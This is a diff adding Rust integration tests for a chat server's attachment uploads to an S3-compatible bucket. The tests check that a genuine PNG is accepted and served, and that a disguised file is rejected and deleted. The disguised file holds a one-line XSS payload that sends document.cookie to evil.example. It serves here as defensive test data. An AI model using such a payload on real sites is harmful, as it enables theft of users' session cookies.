@@ -527,3 +527,164 @@ async fn a_change_whose_gateway_was_killed_before_its_reactions_gets_them_after_
     assert_eq!(todays_messages(&server, &admin).await["customer"], 1, "counted once, after the restart");
     assert!(server.interrupt().success());
 }
+
+use switchboard_shared::attachments::s3::S3AttachmentObjects;
+use switchboard_shared::attachments::store::AttachmentObjects;
+
+/// A 1×1 PNG without metadata (the check keeps it byte for byte).
+const PNG: &[u8] = b"\x89PNG\r\n\x1a\n\0\0\0\x0dIHDR\0\0\0\x01\0\0\0\x01\x08\x06\0\0\0\x1f\x15\xc4\x89\0\0\0\x0aIDATx\x9cc\0\x01\0\0\x05\0\x01\x0d\x0a\x2d\xb4\0\0\0\0IEND\xaeB\x60\x82";
+
+/// Asks for an upload of `bytes` as `name` (`image/png`) and posts its form as a browser does:
+/// the attachment's id, the object's key, where the form went and the upload's status.
+async fn upload_png(
+    server: &Server,
+    customer: &str,
+    session: &str,
+    name: &str,
+    bytes: &[u8],
+) -> (String, String, String, u16) {
+    let requested: serde_json::Value = client()
+        .post(format!("{}/chat/sessions/{session}/attachments", server.base))
+        .bearer_auth(customer)
+        .body(
+            serde_json::json!({"file_name": name, "content_type": "image/png", "size": bytes.len()})
+                .to_string(),
+        )
+        .send()
+        .await
+        .expect("request an upload")
+        .json()
+        .await
+        .expect("upload JSON");
+    let form = &requested["upload"];
+    let url = form["url"].as_str().unwrap_or_else(|| panic!("an upload form: {requested}")).to_owned();
+    let boundary = "----switchboard-cli-boundary";
+    let mut body = Vec::new();
+    for (field, value) in form["fields"].as_object().expect("the form's fields") {
+        let value = value.as_str().unwrap_or_default();
+        body.extend(
+            format!("--{boundary}\r\nContent-Disposition: form-data; name=\"{field}\"\r\n\r\n{value}\r\n")
+                .bytes(),
+        );
+    }
+    body.extend(format!("--{boundary}\r\nContent-Disposition: form-data; name=\"file\"; filename=\"f\"\r\nContent-Type: image/png\r\n\r\n").bytes());
+    body.extend(bytes);
+    body.extend(format!("\r\n--{boundary}--\r\n").bytes());
+    let posted = client()
+        .post(&url)
+        .header("content-type", format!("multipart/form-data; boundary={boundary}"))
+        .body(body)
+        .send()
+        .await
+        .expect("post the upload form");
+    let id = requested["attachment"]["id"].as_str().expect("an attachment id").to_owned();
+    let key = form["fields"]["key"].as_str().expect("the object's key").to_owned();
+    (id, key, url, posted.status().as_u16())
+}
+
+/// `serve --s3-endpoint URL --attachments-bucket NAME` on SQLite and on a DynamoDB table of the
+/// same server.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn serve_with_s3_endpoint_keeps_attachments_in_that_servers_bucket_on_sqlite() {
+    attachments_in_an_s3_bucket(false).await;
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn serve_with_s3_endpoint_keeps_attachments_in_that_servers_bucket_on_dynamodb() {
+    attachments_in_an_s3_bucket(true).await;
+}
+
+/// Upload through the gateway, checked (announced live) and downloaded from the bucket on the
+/// S3-compatible server; a PNG that is really HTML is rejected and gone from the bucket.
+async fn attachments_in_an_s3_bucket(on_dynamodb: bool) {
+    use futures::SinkExt;
+    // Arrange
+    let moto = std::env::var(switchboard_shared::config::TEST_DYNAMODB_ENDPOINT).unwrap_or_else(|_| {
+        panic!("SWITCHBOARD_TEST_DYNAMODB_ENDPOINT is not set: run the tests with scripts/test.sh, which starts moto")
+    });
+    let dir = tempfile::TempDir::new().expect("temporary directory");
+    let unique = ulid::Ulid::new().to_string().to_lowercase();
+    let bucket = format!("attachments-{unique}");
+    let table = format!("cli-{unique}");
+    let mut arguments = vec!["--s3-endpoint", &moto, "--attachments-bucket", &bucket];
+    if on_dynamodb {
+        arguments.extend(["--dynamodb-endpoint", &moto, "--table", &table]);
+    }
+    let server = Server::start_with(dir.path(), &arguments);
+    let customer = token(dir.path(), "cust-ada", "customer");
+    let created: serde_json::Value = client()
+        .post(format!("{}/chat/sessions", server.base))
+        .bearer_auth(&customer)
+        .body(r#"{"subject":"The error screen"}"#)
+        .send()
+        .await
+        .expect("create a session")
+        .json()
+        .await
+        .expect("session JSON");
+    let session = created["id"].as_str().expect("an id").to_owned();
+    let ws = server.base.replacen("http://", "ws://", 1).replacen("/api/v1", "/ws", 1);
+    let (mut socket, _) =
+        tokio_tungstenite::connect_async(format!("{ws}?token={customer}")).await.expect("connect");
+    let subscribe = serde_json::json!({"action": "subscribe", "session_id": session}).to_string();
+    socket.send(tokio_tungstenite::tungstenite::Message::Text(subscribe.into())).await.expect("send");
+    assert_eq!(next_frame(&mut socket).await["type"], "subscribed");
+    let html = b"<html><script>document.location='https://evil.example/?'+document.cookie</script></html>";
+
+    // Act
+    let (id, key, form_url, posted) = upload_png(&server, &customer, &session, "error screen.png", PNG).await;
+    let announced = next_frame(&mut socket).await;
+    let link: serde_json::Value = client()
+        .get(format!("{}/chat/sessions/{session}/attachments/{id}", server.base))
+        .bearer_auth(&customer)
+        .send()
+        .await
+        .expect("ask for a download link")
+        .json()
+        .await
+        .expect("link JSON");
+    let url = link["url"].as_str().unwrap_or_else(|| panic!("a download link: {link}")).to_owned();
+    let file = client().get(&url).send().await.expect("the bucket answers");
+    let file_type = file.headers().get("content-type").and_then(|v| v.to_str().ok()).map(str::to_owned);
+    let file_bytes = file.bytes().await.expect("the file");
+    let (fake_id, fake_key, _, fake_posted) =
+        upload_png(&server, &customer, &session, "cute cat.png", html).await;
+    let fake_link = client()
+        .get(format!("{}/chat/sessions/{session}/attachments/{fake_id}", server.base))
+        .bearer_auth(&customer)
+        .send()
+        .await
+        .expect("ask for a download link");
+    let fake_link_status = fake_link.status().as_u16();
+    let fake_link_body: serde_json::Value = fake_link.json().await.expect("error JSON");
+    let objects = S3AttachmentObjects::for_endpoint(&moto, &bucket);
+    let stored = objects.get(&key).await.expect("the bucket answers");
+    let fake_stored = objects.get(&fake_key).await.expect("the bucket answers");
+
+    // Assert
+    assert!(
+        form_url.starts_with(&server.base.replacen("/api/v1", "", 1)),
+        "the form posts to the gateway: {form_url}"
+    );
+    assert_eq!(posted, 204);
+    assert_eq!(
+        (
+            announced["type"].as_str(),
+            announced["attachment"]["id"].as_str(),
+            announced["attachment"]["status"].as_str()
+        ),
+        (Some("attachment.updated"), Some(id.as_str()), Some("ready")),
+        "{announced}"
+    );
+    assert!(url.starts_with(&format!("{moto}/{bucket}/")), "downloaded from the bucket: {url}");
+    assert_eq!(file_type.as_deref(), Some("image/png"));
+    assert_eq!(file_bytes.as_ref(), PNG);
+    assert_eq!(stored.as_deref(), Some(PNG), "the checked file is in the bucket");
+    assert_eq!(fake_posted, 204, "the form was valid; the check refuses the content");
+    assert_eq!(
+        (fake_link_status, fake_link_body["error"]["code"].as_str()),
+        (409, Some("attachment_rejected"))
+    );
+    assert_eq!(fake_stored, None, "the rejected file is deleted from the bucket");
+    assert!(server.interrupt().success());
+}
